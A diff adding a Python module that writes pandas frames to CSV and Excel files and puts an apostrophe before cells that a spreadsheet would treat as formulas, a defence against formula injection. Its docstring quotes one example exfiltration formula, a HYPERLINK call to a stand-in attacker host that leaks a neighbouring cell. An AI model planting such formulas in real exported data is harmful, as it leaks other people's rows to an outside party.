@@ -1,0 +1,115 @@
+"""Frames to files that a spreadsheet opens as what they are: text that looks like a formula stays text.
+
+A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a line end is a formula to a spreadsheet
+program, and answers are written by a model that read other people's rows:
+``=HYPERLINK("https://evil.example?"&A1)`` sends a neighbour's data away at one click. Such text gets
+an apostrophe in front; numbers are left alone, as numbers and as text. In CSV text is also quoted,
+since a program that takes the semicolon for the separator would find the formula in ``a;=1+1``.
+"""
+
+from __future__ import annotations
+
+import csv
+import importlib.util
+import re
+from typing import Any
+
+import pandas as pd
+
+from deepseek_nb.core.errors import ConfigError
+
+__all__ = ["escaped", "to_csv", "to_excel"]
+
+EXCEL_WRITERS = ("openpyxl", "xlsxwriter")
+_FORMULA = re.compile("[ \u00a0\ufeff]*[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
+"""The last four are full-width forms, which some programs read as the others."""
+_NUMBER = re.compile(r"[+-](?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?%?")
+_NAMES_IN_OPTIONS = ("columns", "header", "index_label", "na_rep")
+
+
+def to_csv(frame: pd.DataFrame, path: Any = None, *, escape_formulas: bool = True, **options: Any) -> Any:
+    """Write ``frame`` as ``DataFrame.to_csv`` does (same options and result), with no formula in it.
+
+    ``escape_formulas=False`` writes every cell as it is. Costs a copy of the text columns.
+
+    >>> print(to_csv(pd.DataFrame({"note": ["=1+1", "fine"], "n": [-1, 2]}), index=False))
+    "note","n"
+    "'=1+1",-1
+    "fine",2
+    <BLANKLINE>
+    """
+    if escape_formulas:
+        frame, options = escaped(frame), {"quoting": csv.QUOTE_NONNUMERIC} | _options(options)
+    return frame.to_csv(path, **options)
+
+
+def to_excel(frame: pd.DataFrame, path: Any, *, escape_formulas: bool = True, **options: Any) -> None:
+    """Write ``frame`` as ``DataFrame.to_excel`` does (same options), with no formula in it.
+
+    Raises ConfigError, which names the line that installs it, where nothing that writes Excel files is
+    installed. ``escape_formulas=False`` writes every cell as it is.
+
+    >>> to_excel(frame, "answers.xlsx")                                    # doctest: +SKIP
+    """
+    if not any(importlib.util.find_spec(name) for name in EXCEL_WRITERS):
+        raise ConfigError(
+            "Writing Excel files needs openpyxl, which is not installed.",
+            hint="Install it: pip install openpyxl",
+        )
+    if escape_formulas:
+        frame, options = escaped(frame), _options(options)
+    frame.to_excel(path, **options)
+
+
+def escaped(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` with an apostrophe before every text that a spreadsheet would take for a formula.
+
+    Cells, column names, index and their names. Types other than text, and empty values, stay as they are.
+
+    >>> escaped(pd.DataFrame({"@a": ["-x", "-1", -1]}))["'@a"].tolist()
+    ["'-x", '-1', -1]
+    """
+    columns = {place: _column(frame.iloc[:, place]) for place in range(frame.shape[1])}
+    copy = pd.DataFrame(columns)
+    if not columns:
+        copy = frame.copy()
+    copy.index, copy.columns = _axis(frame.index), _axis(frame.columns)
+    return copy
+
+
+def _options(options: dict[str, Any]) -> dict[str, Any]:
+    """The options, in which names of columns are escaped as the frame's are."""
+    told = dict(options)
+    for name in _NAMES_IN_OPTIONS:
+        given = told.get(name)
+        if isinstance(given, list | tuple | pd.Index):
+            told[name] = [_text(each) for each in given]
+        elif isinstance(given, str):
+            told[name] = _text(given)
+    return told
+
+
+def _text(value: Any) -> Any:
+    if isinstance(value, tuple):  # a label of several levels
+        return tuple(_text(part) for part in value)
+    if not isinstance(value, str) or not _FORMULA.match(value) or _NUMBER.fullmatch(value):
+        return value
+    return "'" + value
+
+
+def _column(column: pd.Series[Any]) -> pd.Series[Any]:
+    if isinstance(column.dtype, pd.CategoricalDtype):
+        column = column.astype(column.cat.categories.dtype)
+    return column.map(_text) if _may_hold_text(column.dtype) else column
+
+
+def _axis(axis: pd.Index) -> pd.Index:
+    if isinstance(axis, pd.CategoricalIndex):
+        axis = axis.astype(axis.categories.dtype)
+    if len(axis) and (isinstance(axis, pd.MultiIndex) or _may_hold_text(axis.dtype)):
+        axis = axis.map(_text)
+    return axis.set_names([_text(name) for name in axis.names])
+
+
+def _may_hold_text(dtype: Any) -> bool:
+    return pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)
